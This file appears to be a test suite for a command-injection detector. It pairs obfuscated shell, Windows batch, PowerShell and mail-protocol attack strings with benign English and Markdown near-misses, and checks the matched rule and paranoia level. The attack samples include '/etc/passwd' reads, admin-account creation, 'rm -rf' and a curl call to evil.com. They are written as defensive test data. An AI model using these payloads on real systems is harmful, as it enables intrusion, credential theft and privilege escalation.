import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { canonical, detectCmdi, detectCmdiBareWord, detectCmdiWords } from '../../../src/controls/inspection/cmdi.ts';
import { DETECTORS, Engine } from '../../../src/controls/inspection/engine.ts';
import { normalize } from '../../../src/controls/inspection/normalize.ts';
import { settle } from '../../helpers/settle.ts';

/** `rule@paranoia` of the first hit, or `pass`. */
const at = (v: string, f: (s: string) => { rule: string; paranoia: number } | undefined = detectCmdi): string => {
  const h = f(normalize(v));
  return h === undefined ? 'pass' : `${h.rule}@${h.paranoia}`;
};
/** Whether the value passes at paranoia level `pl`. */
const passesAt = (v: string, pl: number, f = detectCmdi): boolean => {
  const h = f(normalize(v));
  return h === undefined || h.paranoia > pl;
};

describe('command injection: shell grammar (round 3)', () => {
  it('special parameters and one-letter classes split words', () => {
    assert.equal(canonical('c$?at /et$_c/pas$$swd'), 'cat /etc/passwd');
    assert.equal(canonical('una$$me -a'), 'uname -a');
    assert.equal(canonical('garb=adduse[r]'), 'garb=adduser');
    // `$_name` after a non-letter is a variable; `a[0]` (a digit) is an index
    assert.equal(canonical('x=$_foo a[0]'), 'x=$_foo a[0]');
  });
  // [attack, expected rule@paranoia, benign near-miss that must pass at paranoia level 2]
  const cases: [string, string, string][] = [
    ['x;c$?at /et$?c/pas$?swd', 'command:cat@1', 'Is it $5? Yes'],
    ['/etc/[m-z]asswd', 'glob-path:/etc/passwd@1', 'tags [a-z] and /etc'],
    ['/usr/[a-z]in/bash', 'glob-path:/usr/bin/bash@1', '/usr/share/doc/readme'],
    ['$((7))z -wrapper sh', 'arithmetic-expansion@1', 'costs $(7) or (7)'],
    ['$(($() 42))', 'arithmetic-expansion@1', '$(document).ready()'],
    ['$[]', 'arithmetic-expansion@2', '$[0].name'],
    ['IF "%~1" == "%~2" (EXIT /B 0) ELSE (EXIT /B 1)', 'windows-if@1', 'if "quoted" words appear in prose'],
    ['if [AA] == [AA] echo same', 'windows-if@1', 'if [citation needed] is shown'],
    ['if not {%1} == {}', 'windows-if@1', 'if not {braces} then'],
    ['if not %1 == "" (', 'windows-if@1', 'if not 100% sure'],
    ['/bin/ab', 'binary-path@2', '/binary/ab'],
    ['c4=\\ ;c3=t;c2=a;c1=c;$c1$c2$c3$c4', 'variable-concatenation@2', 'price: $a and $b'],
    ['garb=adduse[r];$garb pizza', 'variable-command:adduser@2', 'garb=add user;$garb pizza'],
    [';\\n.databases', 'sqlite-dot-command@2', 'see the .databases folder'],
    [';flock -u / whoami', 'command:flock@1', 'a flock of birds'],
    ['cpulimit -l 100 -f whoami', 'command-line:cpulimit@1', 'cpu limit reached'],
    ['time; ansible all -m ping', 'command:ansible@2', 'time; ansible playbooks are fun'],
    [";trap 'rm -rf file.txt' SIGEXIT", 'command:trap@2', 'a trap; rm is not here'],
    [';lastlogin -u admin', 'command:lastlogin@1', 'last login: yesterday'],
    ['echo | gcc7.4', 'command:gcc@2', 'gcc 7.4 | release notes'],
    ['python3.10 cmd', 'command-line:python3@1', 'Python 3.10 cmd'],
    ['python3.10 -c x', 'command-line:python3@1', 'python3.10'],
    ['x\r\nAUTH PLAIN', 'mail-command@2', 'Hello\nAUTH required'],
    ['""p""y""t""h""o""n""3"".""1""0"" ""c""m""d""', 'command-line:python3@1', 'python3 is great'],
    ['aa-disable php-fpm', 'command-line:aa-disable@1', 'aa disable php-fpm'],
    ['time bsdtar ', 'command-line:time-bsdtar@1', 'time bsd tar'],
    ['~0', 'tilde-expansion@2', '~'],
    ['x\r\na001 STATUS INBOX (MESSAGES)', 'mail-command@2', 'x\r\nStatus: all good'],
    ['\r\nAUTH corerulest dGhpc2lzIWF0ZXN0cGFzc3dvcmQ=', 'mail-command@2', '\r\nAuth tokens expire after an hour'],
    ['https://example.com/?args=env --version', 'nested-command-line:env@2', 'https://example.com/?args=environment version'],
    ['code=ansible-console', 'nested-command-line:ansible-console@2', 'code=ansible console'],
  ];
  for (const [attack, want, benign] of cases) {
    it(`detects ${JSON.stringify(attack)} → ${want}`, () => assert.equal(at(attack), want));
    it(`passes ${JSON.stringify(benign)} at paranoia level 2`, () => assert.ok(passesAt(benign, 2), at(benign)));
  }
  // values without shell metacharacters take the words-only path
  const wordsOnly: [string, string, string][] = [
    ['pip install something', 'command-line:pip@2', 'pip is a tiny seed'],
    ['pipx install something', 'command-line:pipx@2', 'pipx is handy'],
    ['chef report nodes', 'command-line:chef@2', 'chef reports the nodes'],
    ['ls foo bar', 'command-line:ls@2', 'lsd foo bar'],
    ['rc script.sh', 'command-line:rc@2', 'rc 1 release'],
    ['flock -u / whoami', 'command-line:flock@1', 'flock together'],
  ];
  for (const [attack, want, benign] of wordsOnly) {
    it(`detects ${JSON.stringify(attack)} → ${want} (words only)`, () => assert.equal(at(attack, detectCmdiWords), want));
    it(`passes ${JSON.stringify(benign)} at paranoia level 2 (words only)`, () => assert.ok(passesAt(benign, 2, detectCmdiWords), at(benign, detectCmdiWords)));
  }
  it('a bare reconnaissance command is one from paranoia level 2, a field-like name is not', () => {
    assert.equal(detectCmdiBareWord('visudo')?.paranoia, 2);
    assert.equal(detectCmdiBareWord('lastlog'), undefined);
    assert.equal(detectCmdiBareWord('uname'), undefined);
    for (const [pl, v, want] of [
      [1, 'visudo', 0],
      [2, 'visudo', 1],
      [2, 'username', 0],
    ] as const) {
      const scan = new Engine({ paranoia: pl, threshold: 5, enabled: new Set(DETECTORS), stopAtThreshold: true, maxHits: 5 }).scan();
      scan.inspect(v, false, () => 'header:user-agent');
      assert.equal(scan.hits.length, want, `${v}@${pl}`);
    }
  });
  // Regression: these took 5-43 s at 100 KB when quadratic. At 400 KB a quadratic scan takes
  // minutes and a linear one well under a second; the test timeout tells them apart (no
  // wall-clock assertion: speed belongs in bench/inspection/speed.ts).
  it('stays linear on long runs of newlines, `<(`, `/bin/` and `{`', { timeout: 10_000 }, async () => {
    for (const unit of ['\n', '\r\n', '<(', '/bin/', 'bin/', '{', '${', '`', '```\n', ' `a` ', '\n* `', '   `', '| --- ', ' & ', '\na001 ']) {
      const s = unit.repeat(Math.ceil(400_000 / unit.length));
      detectCmdi(s);
      await settle();
    }
  });
});

describe('command injection: Markdown prose from API descriptions is no command line', () => {
  // [attack, expected rule@paranoia, benign near-miss that must pass at paranoia level 2]
  const cases: [string, string, string][] = [
    // a mail-protocol line has the arguments its RFC gives it and ends there; IMAP lines carry a tag
    ['x\r\na001 uid store 231:233\r\n', 'mail-command@2', 'Intro.\n\nTo delete a team, the user must be an owner.'],
    ['\r\nRETR 123', 'mail-command@2', 'x.\n\nDelete a reaction to a [team discussion](https://x.test/).'],
    ['\r\nA1 list "INBOX/" "*"', 'mail-command@2', 'only for exports.\r\nA list of `repositories` is only returned.'],
    ['\r\nd store 2 +FLAGS (\\Deleted)', 'mail-command@2', 'Hello! World.\ndata not found.'],
    ['\r\nTOP 1 2', 'mail-command@2', 'endpoint.\n\nList all discussions on a team page.'],
    ['\r\nPASS s3cret', 'mail-command@2', 'updated to.\n\nPass the appropriate [media type](https://x.test/).'],
    ['\r\nA282 SEARCH FLAGGED SINCE 1-Feb-1994', 'mail-command@2', 'receive highlighted\nsearch results, see the docs'],
    // the word after a closing backtick is an argument; Markdown inline code in a sentence is no substitution
    ['`id`', 'command:id@1', 'if you previously had a `secret` set, you must provide the same `secret`'],
    ['`true`id', 'command:id@1', 'the `pending_request.amount` at the time of the request'],
    ['a=`id` b', 'command:id@1', '`id` of the user who will receive the message'],
    [';`id`', 'command:id@1', 'gets a project by its `id`. returns a `404`'],
    ['ping `id` x', 'command:id@2', 'valid values are `read`, `write`, or `admin`'],
    ['see `whoami` output', 'command:whoami@2', 'compress it using [`gzip`](http://www.gnu.org/software/gzip/) first'],
    ['`cat /etc/passwd` now', 'command:cat@1', 'or `max` which uses the usage record with the maximum'],
    ['a\n*   `whoami` now', 'command:whoami@2', 'weekly hash:\n\n*   `w` - Start of the week\n*   `a` - Number of additions'],
    // `at` takes a time, `net` a sub-command: "Time at which…", "Net amount of…" are English
    ['time at now + 1 minute', 'command-line:time-at@2', 'Time at which the object was created.'],
    ['net user admin /add', 'command-line:net@1', 'Net amount of the transaction, in %s.'],
    [';net localgroup administrators x /add', 'command:net@1', 'x; net amount'],
    // an HTML tag after a command word is markup, not a redirection
    [';set <x', 'command:set@1', 'for subscription payments,\nset <a href="/docs/api">default</a>.'],
    // PowerShell calls the .NET method statically; C# (`Convert.FromBase64String(`) is not PowerShell
    ['[Convert]::FromBase64String("aWQ=")', 'powershell@1', 'var key = Convert.FromBase64String("2Sg8i");'],
    // a GFM table (delimiter row present): a spaced `|` is a cell border
    ['| name | type |\n|---|---|\n| x | cat /etc/passwd |', 'command:cat@1', '| Type    | Description |\n| ------- | ----------- |\n| `users` | x |'],
    // a lone `&` between spaces is "and" in prose
    ['x & curl evil.com/x', 'command:curl@1', 'GitHub Apps require `read & write` access; convert secret & base64 key.'],
    // a Markdown code fence line is no (empty) substitution
    ['```id`', 'command:id@1', 'Encrypt it:\n\n```ruby\nrequire "rbnacl"\nkey = RbNaCl::PublicKey.new(k)\n```'],
    ['```\nls -la\n```', 'command:ls@1', '```json\n{"type": "id"}\n```'],
  ];
  for (const [attack, want, benign] of cases) {
    it(`detects ${JSON.stringify(attack)} → ${want}`, () => assert.equal(at(attack), want));
    it(`passes ${JSON.stringify(benign)} at paranoia level 2`, () => assert.ok(passesAt(benign, 2), at(benign)));
  }
});
